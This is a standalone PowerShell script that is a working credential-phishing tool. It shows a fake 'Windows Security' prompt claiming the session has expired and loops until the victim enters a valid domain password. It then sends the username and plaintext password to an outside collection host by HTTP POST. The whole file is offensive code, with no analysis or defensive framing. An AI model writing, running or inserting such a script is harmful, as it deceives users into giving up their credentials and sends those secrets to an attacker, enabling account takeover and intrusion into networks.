Add-Type -AssemblyName System.DirectoryServices.AccountManagement
$ctx = New-Object System.DirectoryServices.AccountManagement.PrincipalContext('Domain')
$valid = $false

while (-not $valid) {
    $c = $Host.UI.PromptForCredential('Windows Security', 'Your session has expired. Please re-enter your password.', "$env:USERDOMAIN\$env:USERNAME", '')
    if ($c -eq $null) { continue }
    $plain = $c.GetNetworkCredential().Password
    $valid = $ctx.ValidateCredentials($c.UserName.Split('\')[-1], $plain)
}

$loot = "$($env:USERNAME):$plain"
$bytes = [Text.Encoding]::UTF8.GetBytes($loot)
Invoke-WebRequest -Uri 'https://collect.example-cdn.net/p' -Method Post -Body $bytes -UseBasicParsing | Out-Null
